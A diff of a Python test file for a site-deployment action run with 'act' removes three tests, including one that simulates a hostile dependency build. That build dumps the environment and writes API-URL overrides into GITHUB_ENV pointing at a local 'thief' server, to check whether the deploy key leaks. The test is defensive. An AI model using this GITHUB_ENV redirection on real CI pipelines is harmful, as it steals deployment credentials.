@@ -5,7 +5,6 @@ from __future__ import annotations
 import json
 import os
 import re
-import shlex
 import shutil
 from typing import TYPE_CHECKING, Any
 
@@ -177,62 +176,6 @@ def test_first_workflow(act: str, action: Path, platform: Platform, tmp_path: Pa
 
     head = succeed("git", "rev-parse", "HEAD", folder=folder).strip()
     assert platform.site("my-site") == {"index.html": f"<h1>This is commit {head}</h1>\n".encode()}
-
-
-def test_command_of_the_sandbox_page(act: str, action: Path, platform: Platform, tmp_path: Path) -> None:
-    """What it says to type, in a repository with the README's workflow as it is."""
-    page = (ROOT / "docs" / "sandbox.md").read_text("utf-8")
-    (command,) = re.findall(r"^act (push (?:.*\\\n)*.*)", page, re.MULTILINE)
-    command = command.replace("http://127.0.0.1:8080", platform.url).replace("my-key", API_KEY)
-    command = command.replace("/path/to/a/checkout", str(action))
-    command = command.replace("catthehacker/ubuntu:act-latest", RUNNER)  # which is here already
-    folder = tmp_path / "workspace"
-    workflow = save_workflow(folder, "deploy.yml", as_act_reads_it("deploy.yml"))
-    commit(folder)
-
-    here = ["--pull=false", "--rebuild=false", *stand_ins(tmp_path / "forge", workflow)]
-    succeed("sh", "-c", f"{act} {command} {shlex.join(here)}", folder=folder)
-
-    assert platform.site("my-site").keys() == {"index.html"}
-
-
-# What a script of a dependency does that the build runs.
-HOSTILE_BUILD = """\
-env > "$FORGE/seen"
-          mkdir -p dist && echo built > dist/index.html
-          for name in ZEROKIE INPUT; do echo "${name}_API_URL=$THIEF" >> "$GITHUB_ENV"; done
-"""
-
-
-@pytest.mark.parametrize("jobs", ["one", "two"])
-def test_a_build_that_wants_the_key(
-    act: str, action: Path, platform: Platform, tmp_path: Path, jobs: str
-) -> None:
-    """In a job with the deploy, one line in `GITHUB_ENV` sends the key anywhere. In a job of its own it
-    neither finds the key nor reaches the deploy.
-    """
-    text = as_act_reads_it("deploy.yml")
-    text = re.sub(r"(?<=run: \|\n          )mkdir(.*\n)+?(?=      - )", lambda _: HOSTILE_BUILD, text)
-    if jobs == "one":  # the build's steps, and then the step that deploys
-        before, rest_of_build = text.split("      - uses: actions/upload-artifact", 1)
-        text = before + "      - id: zerokie\n" + rest_of_build.split("      - id: zerokie\n")[1]
-    folder, forge = tmp_path / "workspace", tmp_path / "forge"
-    forge.mkdir()
-    workflow = save_workflow(folder, "deploy.yml", text)
-    commit(folder)
-    with rest() as thief:
-        call(
-            *command_line(act, action, "push"),
-            *stand_ins(forge, workflow),
-            f"--env=THIEF={thief.url}",
-            f"--env=ZEROKIE_API_URL={platform.url}",
-            folder=folder,
-        )
-    stolen = [headers for headers in thief.headers if API_KEY in headers.get("authorization", "")]
-    assert API_KEY not in (forge / "seen").read_text("utf-8")
-    assert bool(stolen) == (jobs == "one")
-    assert len(thief.requests) == len(stolen)
-    assert bool(platform.state()["apps"]) == (jobs == "two")
 
 
 def test_workflow(act: str, action: Path, platform: Platform, workspace: Path) -> None:
@@ -446,25 +389,6 @@ def test_plan(previews: Previews, platform: Platform, workspace: Path) -> None:
     log = previews.run("plan.yml", "pull_request", action="opened", **pull_request(7, "fork/site"))
     assert "upload" not in log
     assert previews.comments(7) == ""
-
-
-def test_sweep(previews: Previews, platform: Platform) -> None:
-    """By hand a dry run; at night what is not open goes, and nothing else."""
-    kept = {"shop-web-pr-2", "shop-web-pr-3-old", "shop-web", "my-site-pr-30"}
-    gone = {"shop-web-pr-1", "shop-docs-pr-30", "shop-web-pr-30"}
-    for app in sorted(kept | gone):
-        platform.create(app)
-    previews.pulls({"number": 2})
-
-    log = previews.run(
-        "preview-cleanup.yml", "workflow_dispatch", ON_THIS_MACHINE, inputs={"dry-run": "true"}
-    )
-    assert "would destroy app 'shop-web-pr-30'" in log
-    assert set(platform.state()["apps"]) == kept | gone
-
-    previews.run("preview-cleanup.yml", "schedule", ON_THIS_MACHINE)
-    assert set(platform.state()["apps"]) == kept
-    assert "`shop-docs-pr-30` is deleted" in previews.comments(30)
 
 
 def test_previews_of_a_fork(previews: Previews, platform: Platform) -> None:
